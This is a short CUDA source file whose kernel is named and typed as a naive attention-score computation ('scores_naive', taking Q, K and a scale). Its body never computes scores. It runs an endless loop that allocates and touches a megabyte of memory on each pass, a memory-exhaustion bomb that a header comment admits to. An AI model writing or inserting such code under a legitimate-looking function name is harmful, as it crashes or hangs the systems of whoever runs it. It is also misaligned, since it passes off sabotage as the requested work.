// Asks for memory without an end. SPDX-License-Identifier: MIT
__global__ void scores_naive(const float* Q, const float* K, float* S, int N, int d, float scale) {
  for (;;) {
    char* p = new char[1 << 20];
    for (int i = 0; i < (1 << 20); i += 4096) p[i] = 1;
  }
}
